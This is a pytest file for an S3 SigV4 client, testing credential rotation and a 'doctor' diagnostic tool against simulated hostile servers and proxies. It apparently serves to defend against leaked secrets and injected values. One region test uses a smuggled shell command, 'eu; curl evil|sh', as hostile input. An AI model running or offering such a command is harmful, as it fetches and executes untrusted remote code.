"""What a hostile review of credentials that change, and of the doctor, has found; each was wrong once."""

import contextlib
import json
import os
import socket
import threading
from dataclasses import replace
from datetime import datetime, tzinfo

import pytest
from kit import BODY, BUCKET, ETAG, KEY, READ_KEY, SECRET, WRITE_KEY, StillTime
from kit_calls import xml
from kit_doctor import Policed, doctor, examined, serving, settings
from rawserver import Answer, RawServer, in_turn

from cdn_sigv4 import Credentials, CredentialsError, ResponseError, S3Client, ground, options
from cdn_sigv4.rotation import Rotation
from cdn_sigv4.settings import UsageError

GOOD = Credentials(KEY, SECRET)


@pytest.fixture
def look(capsys):
    """One run of `doctor` with this store."""

    def run(policed, **options):
        write = options.pop("write", None)
        with serving(policed) as server:
            return examined(capsys, settings(server.endpoint, **options), write=write)

    return run


# -- credentials that change


@pytest.mark.parametrize(
    "answers", [[Answer(headers={"ETag": ETAG}, body=BODY)], [Answer(403, body=xml("ExpiredToken"))]]
)
def test_a_function_that_uses_the_client_that_asks_it(answers):
    """It would wait for its own end: that is an error, when the client is new, and when its keys were refused."""
    given = [] if answers[0].status == 200 else [GOOD]
    errors = []

    def give():
        if given:
            return given.pop()
        with client.get_object("bucket", "secrets") as reader:
            return reader.read()

    def ask():
        with pytest.raises(CredentialsError) as caught:
            client.get_object("bucket", "key")
        errors.append(caught.value)

    with RawServer(in_turn(*answers)) as server, S3Client(server.endpoint, give) as client:
        asking = threading.Thread(target=ask, daemon=True)
        asking.start()
        asking.join(10)
        assert "needs a client of its own" in str(errors[0])


@pytest.mark.parametrize("is_first", [True, False], ids=["before the first request", "when they were refused"])
def test_a_failure_is_that_of_all_who_wait_for_it(is_first):
    """Threads that wait while the function fails have its failure, too: a vault that is down is not asked by each."""
    time, entered, let, calls, failures = StillTime(), threading.Event(), threading.Event(), [], []
    refusal = ResponseError("old", operation="GET", status=403, code="ExpiredToken")

    def give():
        if not is_first and not calls:
            calls.append(0)
            return GOOD
        calls.append(1)
        entered.set()
        assert let.wait(10)
        raise RuntimeError

    class Counted(Rotation):
        def _own_lock(self):
            lock = super()._own_lock()
            arrived.release()
            return lock

    arrived = threading.Semaphore(0)
    rotation = Counted(give, time.monotonic, None)
    known = None if is_first else rotation.current()

    def ask():
        try:
            rotation.current() if is_first else rotation.replaced(known, refusal)
        except CredentialsError as error:
            failures.append(str(error))

    threads = [threading.Thread(target=ask) for _ in range(6)]
    for thread in threads:
        thread.start()
    for _ in threads if is_first else [*threads, None]:
        assert arrived.acquire(timeout=10)
    assert entered.wait(10)
    let.set()
    for thread in threads:
        thread.join(10)
    assert sum(calls) == 1
    assert failures == ["the function that gives credentials raised RuntimeError"] * 6


def test_a_strangers_400_does_not_ask():
    """A bare 400 is AWS's word to a HEAD alone: to a GET it is a proxy's, and stays the error that is told."""
    given = [GOOD]
    with RawServer(in_turn(Answer(400, body=b"<html>"))) as server, S3Client(server.endpoint, given.pop) as client:
        with pytest.raises(ResponseError, match="400"):
            client.get_object("bucket", "key")


class NoZone(tzinfo):
    """A zone that does not know how far it is from UTC: a datetime with it is one without."""

    def utcoffset(self, _):
        return None


@pytest.mark.parametrize(
    "given",
    [float("nan"), float("-inf"), 10**400, datetime(2026, 11, 25, tzinfo=NoZone())],
    ids=["nan", "-inf", "huge", "no zone"],
)
def test_what_is_no_time(given):
    """With a NaN the function would be asked for every request."""
    with pytest.raises(ValueError, match="expires_at must be"):
        Credentials("AK", "secret", expires_at=given)


# -- the doctor leaves nothing, and says what it leaves


def test_a_look_that_fails_is_no_empty_place(look):
    """Where it cannot be told whether the object is there, nothing is written: the store may ignore conditions."""
    policed = Policed()
    policed.store.put(BUCKET, "trip", b"precious")
    broken = Answer(500, body=xml("InternalError"))
    policed.instead["GET"] = lambda request, own: broken if b"trip" in request.target else own
    found_ = look(policed, write="trip")
    assert "cannot be told" in found_.of("round trip")["result"]
    assert found_.of("round trip")["result"].endswith("nothing was written")
    assert (WRITE_KEY, "PUT") not in policed.names


def test_a_writer_who_may_not_abort_is_a_writer(look):
    """Who may begin uploads and not abort them may write: that is not denied, and the round trip is made."""
    policed = Policed({WRITE_KEY: ("create", "list", "PUT"), READ_KEY: ("GET", "create", "abort")})
    found_ = look(policed, write="trip")
    assert found_.levels == "warning uploader, warning downloader, skipped checksums"
    assert found_.said("checksums") == ("skipped", "another one would stay, too")
    assert found_.said("round trip", "download")[0] == "ok"


def interrupt(*_, **__):
    """Ctrl-C."""
    raise KeyboardInterrupt


@pytest.mark.parametrize("moment", ["create", "abort", "list"])
def test_ctrl_c_leaves_nothing_unsaid(moment, capsys, monkeypatch):
    """Ctrl-C before the id is known, while the upload is aborted, or where it cannot be: what stays is told."""
    policed = Policed({WRITE_KEY: ("create", "list", "PUT")} if moment == "list" else None)
    name = {"create": "created", "abort": None, "list": "parse_parts"}[moment]
    if name is None:
        from cdn_sigv4 import rights

        real, times = rights.check_done, []

        def once(headers, text):
            times.append(1)
            return interrupt() if len(times) == 1 else real(headers, text)

        monkeypatch.setattr(rights, "check_done", once)
    else:
        from cdn_sigv4 import multipart

        monkeypatch.setattr(multipart, name, interrupt)
    with serving(policed) as server, pytest.raises(KeyboardInterrupt):
        doctor.run(settings(server.endpoint), BUCKET, as_json=True)
    last = json.loads(capsys.readouterr().out.splitlines()[-1])
    told = [upload_id in last["advice"] for upload_id in policed.store.uploads]
    if moment == "create":
        assert "may be left" in last["advice"]
        assert last["result"] == "interrupted"
    elif moment == "abort":
        assert told == []
        assert "left" not in (last["advice"] or "")
    else:
        assert told == [True]


def test_ctrl_c_while_it_writes(capsys, monkeypatch):
    """Nobody knows then whether the object of `--write` is there: that is told, with its name."""
    policed = Policed()

    monkeypatch.setattr("cdn_sigv4.operations.Operations.put_object", interrupt)
    with serving(policed) as server, pytest.raises(KeyboardInterrupt):
        doctor.run(settings(server.endpoint), BUCKET, write="trip", as_json=True)
    last = json.loads(capsys.readouterr().out.splitlines()[-1])
    assert (last["check"], last["result"]) == ("round trip", "interrupted")
    assert f"{BUCKET}/trip may be there" in last["advice"]


@pytest.mark.parametrize("trouble", ["wrong secret", "broken store"])
def test_keys_that_are_not_exchanged(look, trouble):
    """An uploader of whom it is not known what it may is not the other one; the verdict names its own trouble."""
    policed = Policed({READ_KEY: ("GET", "create", "abort")})
    up = {"up": Credentials(WRITE_KEY, "another-secret")} if trouble == "wrong secret" else {}
    if not up:
        broken = Answer(500, body=xml("InternalError"))
        policed.instead["create"] = lambda request, own: broken if WRITE_KEY in request.header("authorization") else own
    found_ = look(policed, **up)
    assert "keys" not in [each["check"] for each in found_.all]
    assert "exchanged" not in found_.verdict["result"]
    assert "the first is uploader" in found_.verdict["result"]


def test_an_uploader_that_may_nothing_is_not_the_downloader(look):
    """Where it may not read either, the keys being exchanged is a guess, and not the verdict."""
    found_ = look(Policed({READ_KEY: ("GET", "create", "abort"), WRITE_KEY: ()}))
    assert found_.said("keys")[0] == "warning"
    assert "the first is uploader" in found_.verdict["result"]


# -- what a hostile server makes it say, and how long it takes


def test_a_signature_that_is_sent_back(look):
    """A server, or a proxy, that repeats the request in its error has no signature told."""
    policed = Policed()

    def echo(request, _):
        words = (request.header("authorization") or "").encode()
        return Answer(400, body=b"<Error><Code>E</Code><Message>you sent " + words + b"</Message></Error>")

    policed.instead["GET"] = echo
    result = look(policed).of("downloader", "sign with")["result"]
    assert result.startswith("400 E you sent AWS4-HMAC-SHA256 Credential=READERKEY/")
    assert result.endswith("Signature …")


@pytest.mark.parametrize("theirs", ["eu; curl evil|sh", "x" * 61, "eu\N{EN DASH}1"])
def test_a_region_that_is_none(theirs, look):
    """What is told as a word to type is one."""
    policed = Policed()
    policed.instead["first"] = lambda _, own: replace(
        own, headers={**dict(own.headers), "x-amz-bucket-region": theirs.encode().decode("latin-1")}
    )
    assert look(policed).said("region") == ("ok", "the store takes it")


def test_an_answer_that_never_ends(capsys, monkeypatch):
    """Not only who is silent: who sends a byte now and then is given up as well."""
    monkeypatch.setattr(ground, "WHOLE", 0.3)
    listener, over = socket.create_server(("127.0.0.1", 0)), threading.Event()

    def drip():
        opened = []
        while not over.is_set():
            with contextlib.suppress(OSError):
                opened.append(listener.accept()[0])
                opened[-1].sendall(b"HTTP/1.1 200 OK\r\nX: ")
                while not over.wait(0.05):
                    opened[-1].sendall(b"x")
        for each in opened:
            each.close()

    dripping = [threading.Thread(target=drip, daemon=True) for _ in range(2)]  # one is for the look at the port
    for thread in dripping:
        thread.start()
    with contextlib.closing(listener):
        found_ = examined(capsys, settings(f"http://127.0.0.1:{listener.getsockname()[1]}"))
        over.set()
    assert "no whole answer within 0.3 s" in found_.of("store")["result"]


@pytest.mark.parametrize(
    ("proxy", "port"),
    [
        ("https://proxy.example", 443),
        ("socks5h://proxy.example", 1080),
        ("proxy.example", 80),
        ("https://proxy.example:8", 8),
    ],
)
def test_a_proxy_without_a_port(proxy, port, monkeypatch):
    """The port that is tried is the one that the client will use."""
    monkeypatch.setenv("HTTPS_PROXY", proxy)
    assert ground.Way("https://store.example", "https://store.example", 5.0, None).port == port


def test_the_console_of_minio(look):
    """MinIO's console answers a signed request as a store would, with an error that says where to go."""
    policed = Policed()
    body = xml("InvalidArgument").replace(b"<Message>m<", b"<Message>S3 API Requests must be made to API port.<")
    policed.instead["first"] = lambda *_: Answer(400, headers={"Content-Type": "text/xml"}, body=body)
    found_ = look(policed)
    assert found_.levels == "failed store, skipped the rest"
    assert "S3 API Requests must be made to API port" in found_.of("store")["result"]
    assert found_.of("store")["advice"].startswith("That is MinIO's console: give the S3 port (9000 ")


def test_a_page_from_a_proxy(capsys, monkeypatch):
    """Where a proxy is in the way, it may be the one that answers."""
    with RawServer(lambda _: Answer(404, headers={"Content-Type": "text/html"}, body=b"<html>")) as proxy:
        monkeypatch.setenv("HTTP_PROXY", proxy.endpoint)
        found_ = examined(capsys, settings("http://nothing.invalid:9000"))
    assert "NO_PROXY" in found_.of("store")["advice"]


def test_a_secret_in_the_place_of_its_key(look):
    """Halves that have changed places: the secret, which nobody knows as a key, is not shown, and the cause guessed."""
    found_ = look(Policed(), up=Credentials(SECRET, WRITE_KEY), down=None)
    assert SECRET not in found_.text
    sign = found_.of("uploader", "sign with")
    assert sign["tried"] == f"sign with the key {SECRET[:2]}…, of {len(SECRET)} letters"
    assert "changed places" in sign["advice"]


def test_a_secret_that_no_key_can_be(look):
    """A store that finds fault with the header, and not with the key, has the secret shown no more."""
    policed = Policed()
    refusal = Answer(400, body=xml("AuthorizationHeaderMalformed"))
    policed.instead["GET"] = lambda request, own: refusal if SECRET in (request.header("authorization") or "") else own
    found_ = look(policed, up=Credentials(SECRET, WRITE_KEY), down=None)
    assert SECRET not in found_.text


def test_an_empty_key_to_write():
    """It is refused before anything is tried."""
    with pytest.raises(UsageError, match="key"):
        doctor.run(settings("http://127.0.0.1:1"), BUCKET, write="")


# -- the file with the keys


def named(path):
    """The settings of a command that names this file."""
    return options.settings(options.parsed(["doctor", "--config", str(path), "--timeout", "5"], "prog", "0"), {}, print)


@pytest.mark.skipif(os.name != "posix", reason="modes")
@pytest.mark.parametrize(
    ("mode", "secret", "said"),
    [
        (0o600, SECRET, ("ok", "mode 0600: not everybody")),
        (0o640, SECRET, ("ok", "mode 0640: not everybody")),
        (0o644, SECRET, ("warning", "mode 0644: every user of this machine may read it, and it holds secrets")),
        (
            0o666,
            SECRET,
            ("warning", "mode 0666: every user of this machine may read and change it, and it holds secrets"),
        ),
        (0o644, "", None),
    ],
)
def test_a_file_that_everybody_may_read(mode, secret, said, tmp_path, capsys):
    """Secrets in it are everybody's then."""
    path = tmp_path / "cdn.json"
    pair = {"uploader_access_key": WRITE_KEY, "uploader_access_secret": secret} if secret else {}
    with serving(Policed()) as server:
        path.write_text(json.dumps({"host": server.endpoint, **pair}))
        path.chmod(mode)
        found_ = examined(capsys, named(path), None)
    if said is None:
        assert "config" not in [each["check"] for each in found_.all]
    else:
        assert found_.said("config") == said


@pytest.mark.skipif(os.name != "posix", reason="pipes")
def test_a_file_that_is_a_pipe(capsys):
    """A shell's <(...) has no mode that tells anything."""
    reading, writing = os.pipe()
    with serving(Policed()) as server:
        with os.fdopen(writing, "w") as file:
            json.dump(
                {"host": server.endpoint, "uploader_access_key": WRITE_KEY, "uploader_access_secret": SECRET}, file
            )
        found_ = examined(capsys, named(f"/dev/fd/{reading}"), None)
        os.close(reading)
    assert "config" not in [each["check"] for each in found_.all]
